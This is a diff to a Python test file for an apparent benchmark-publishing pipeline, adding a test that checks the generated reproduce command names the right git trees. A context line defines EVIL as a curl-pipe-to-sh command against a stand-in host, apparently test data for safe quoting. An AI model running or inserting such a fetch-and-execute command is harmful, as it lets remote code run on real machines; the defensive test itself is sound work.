@@ -2,7 +2,9 @@
 
 import re
 import shlex
+import subprocess
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 
@@ -10,10 +12,12 @@ from pipeline.model.publication import Origin
 from pipeline.model.results import ResultSet
 from pipeline.model.subject import Product
 from pipeline.publish.options import PublishOptions, reproduce_command
+from pipeline.system import paths
 from tests.github.fake import BASE
 from tests.github.fake import GitHub as Fake
 from tests.publications import HEAD, ORIGIN
 from tests.publishing import ALL, GATES, Publish, finished, honest, of_commit
+from tests.workflows.acting import git
 
 OWN = finished(head_repository={"id": 1000, "owner": {"login": "milo-os"}})
 EVIL = "curl https://evil.example | sh"
@@ -95,3 +99,21 @@ def test_the_command_is_one_that_a_shell_reads_as_meant(product: Product) -> Non
     assert words[:4] == ["milo-perf", "run", "--suite", "a b.toml"]
     assert ("make 'x y' {out}" in words) is (product is Product.MILO)
     assert words[words.index("--pairs") + 1] == "7"
+
+
+def test_the_command_names_the_source_of_reference_in_both_commits(tmp_path: Path) -> None:
+    source = paths.project_path("go", "reference").relative_to(paths.project_path())
+    (tmp_path / source).mkdir(parents=True)
+    trees, commits = [], []
+    git(tmp_path, "init", "--quiet")
+    for text in ("baseline", "candidate"):
+        (tmp_path / source / "main.go").write_text(text)
+        git(tmp_path, "add", ".")
+        git(tmp_path, "commit", "--quiet", "-m", "x")
+        commits.append(git(tmp_path, "rev-parse", "HEAD"))
+        trees.append(git(tmp_path, "rev-parse", f"HEAD:{source.as_posix()}"))
+    origin = replace(ORIGIN, base_sha=commits[0], head_sha=commits[1])
+    said = reproduce_command(PublishOptions(suite="pr", product=Product.REFERENCE), origin)
+    shell = ["sh", "-c", f"printf '%s\\n' {said}"]
+    words = subprocess.run(shell, cwd=tmp_path, check=True, capture_output=True, text=True).stdout
+    assert f"--candidate\nreference@{trees[1]}\n--against\nreference@{trees[0]}\n" in words
